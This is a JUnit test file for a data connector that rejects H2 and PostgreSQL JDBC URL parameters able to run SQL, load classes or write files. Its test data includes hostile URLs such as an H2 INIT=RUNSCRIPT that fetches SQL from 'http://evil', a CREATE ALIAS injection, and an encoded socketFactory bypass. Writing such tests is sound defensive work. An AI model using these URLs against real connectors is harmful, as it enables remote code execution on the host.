package flowcdk.example.api;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import flowcdk.example.models.SqlConfig;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * A config's {@code jdbc_url} may set only allow-listed driver parameters, in every syntax the
 * drivers read, in any case; the error names the parameter and the allowed ones, never the URL.
 */
class JdbcUrlParametersTest {

  private static List<String> problems(String url) {
    return Database.configProblems(
        new SqlConfig(null, 5432, null, null, null, null, 1000, url, false, null, null, 1));
  }

  private static void assertRefused(String url, String parameter) {
    List<String> problems = problems(url);
    assertEquals(1, problems.size(), url + ": " + problems);
    assertTrue(problems.get(0).startsWith("jdbc_url sets the "), problems.get(0));
    assertTrue(
        problems.get(0).contains(" driver parameter " + parameter + ", which is not allowed"),
        problems.get(0));
    assertTrue(problems.get(0).endsWith("Remove " + parameter + " from jdbc_url"), problems.get(0));
    assertFalse(problems.get(0).contains("s3cret"), "never the URL's values: " + problems.get(0));
  }

  @Test
  void theUrlsUsersAreShownAreAccepted() {
    for (String url :
        List.of(
            "jdbc:h2:./example-connector/sql/demo/data/shop;DATABASE_TO_LOWER=TRUE",
            "jdbc:h2:./demo/shop",
            "jdbc:h2:mem:x",
            "jdbc:h2:/tmp/train/shop;database_to_lower=true;DB_CLOSE_DELAY=-1;",
            "jdbc:postgresql://127.0.0.1:5432/db",
            "jdbc:postgresql://db.example.com/shop?sslmode=require&ApplicationName=flow"
                + "&connectTimeout=10&user=u&password=s3cret",
            "jdbc:postgresql://a:5432,b:5432/shop?targetServerType=primary&&SSL=true")) {
      assertEquals(List.of(), problems(url), url);
    }
  }

  @Test
  void h2SettingsThatRunSqlOrLoadClassesAreRefused() {
    assertRefused("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "INIT");
    assertRefused("jdbc:h2:mem:x;DATABASE_TO_LOWER=TRUE;init=CREATE ALIAS X AS 's3cret'", "init");
    assertRefused("jdbc:h2:mem:x;DATABASE_TO_LOWER=TRUE\\;INIT=SELECT 1", "INIT");
    assertRefused("jdbc:h2:mem:x;TRACE_LEVEL_FILE=3", "TRACE_LEVEL_FILE");
    assertRefused("jdbc:h2:mem:x;ACCESS_MODE_DATA=rws", "ACCESS_MODE_DATA");
    assertRefused(
        "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='com.acme.Listener'", "DATABASE_EVENT_LISTENER");
    assertRefused("jdbc:h2:mem:x;AUTO_SERVER=TRUE", "AUTO_SERVER");
    assertRefused("jdbc:h2:mem:x; Init =SELECT 1", "Init");
  }

  @Test
  void postgresqlParametersThatLoadClassesOrWriteFilesAreRefused() {
    String base = "jdbc:postgresql://127.0.0.1/db?user=u&";
    for (String parameter :
        List.of(
            "socketFactory",
            "socketFactoryArg",
            "sslfactory",
            "sslfactoryarg",
            "sslhostnameverifier",
            "sslpasswordcallback",
            "authenticationPluginClassName",
            "loggerFile",
            "loggerLevel",
            "options",
            "SOCKETFACTORY")) {
      assertRefused(base + parameter + "=s3cret", parameter);
    }
    assertRefused(base + "socket%46actory=x", "socket%46actory"); // decodes to socketFactory
    assertRefused("jdbc:postgresql://h/db?sslfactory", "sslfactory"); // no value
    assertRefused("jdbc:postgresql://h/db?ssl=true&sslfactory=a.B&x=", "sslfactory", "x");
  }

  private static void assertRefused(String url, String first, String second) {
    List<String> problems = problems(url);
    assertEquals(2, problems.size(), problems.toString());
    assertTrue(problems.get(0).contains(" parameter " + first + ", "), problems.get(0));
    assertTrue(problems.get(1).contains(" parameter " + second + ", "), problems.get(1));
  }

  @Test
  void theErrorListsTheAllowedParameters() {
    String problem = problems("jdbc:h2:mem:x;INIT=SELECT 1").get(0);
    assertEquals(
        "jdbc_url sets the H2 driver parameter INIT, which is not allowed: some driver parameters"
            + " run SQL or load classes on the connector's host, so only these are accepted (in"
            + " any case): CASE_INSENSITIVE_IDENTIFIERS, DATABASE_TO_LOWER, DATABASE_TO_UPPER,"
            + " DB_CLOSE_DELAY, DB_CLOSE_ON_EXIT, IFEXISTS, PASSWORD, USER. Remove INIT from"
            + " jdbc_url",
        problem);
    assertTrue(
        problems("jdbc:postgresql://h/db?loggerFile=/tmp/x")
            .get(0)
            .contains("ApplicationName, connectTimeout, currentSchema"),
        "PostgreSQL's list");
  }

  @Test
  void otherDriversAreRefused() {
    assertEquals(
        List.of(
            "jdbc_url must start with jdbc:postgresql: or jdbc:h2: (the drivers in this"
                + " connector)"),
        problems("jdbc:mysql://h/db"));
  }
}
